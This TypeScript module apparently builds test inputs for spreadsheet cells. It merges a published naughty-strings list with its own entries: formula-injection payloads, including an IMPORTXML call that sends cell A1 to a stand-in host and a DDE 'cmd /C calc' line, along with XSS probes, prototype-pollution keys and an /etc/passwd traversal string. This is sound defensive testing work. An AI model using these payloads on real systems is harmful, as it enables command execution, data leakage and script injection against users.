// Texts that people or machines put into cells to see what happens.
import { readFileSync } from "node:fs";

const published = JSON.parse(
  readFileSync("node_modules/big-list-of-naughty-strings/blns.json", "utf8"),
) as string[];

const own = [
  '=HYPERLINK("https://contoh.example","klik")',
  '=IMPORTXML(CONCAT("https://contoh.example/",A1),"//a")',
  "+62 812 000",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\n=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1",
  "＋1",
  "'=1+1",
  "''=1+1",
  "007",
  "1-2",
  "3/4",
  "1e5",
  "TRUE",
  "12:30",
  "50%",
  "Rp 5.000",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "prototype",
  "\u202egnitset\u202c",
  "\u2066=1\u2069",
  "\u200b=1+1",
  "\ufeffnama",
  "a\u0000b",
  "\u0007",
  "\ud800",
  "x\udfffy",
  "$\u007b1+1}",
  "{{1+1}}",
  "$&$1",
  "#REF!",
  "#N/A",
  "../../etc/passwd",
  "..\\..\\x",
  "CON",
  "a/b:c*d?e",
  "x".repeat(50_000),
];

/** Blank texts are cells without content, and not of interest here. */
export const naughty: readonly string[] = [...own, ...published].filter((t) => t.trim() !== "");
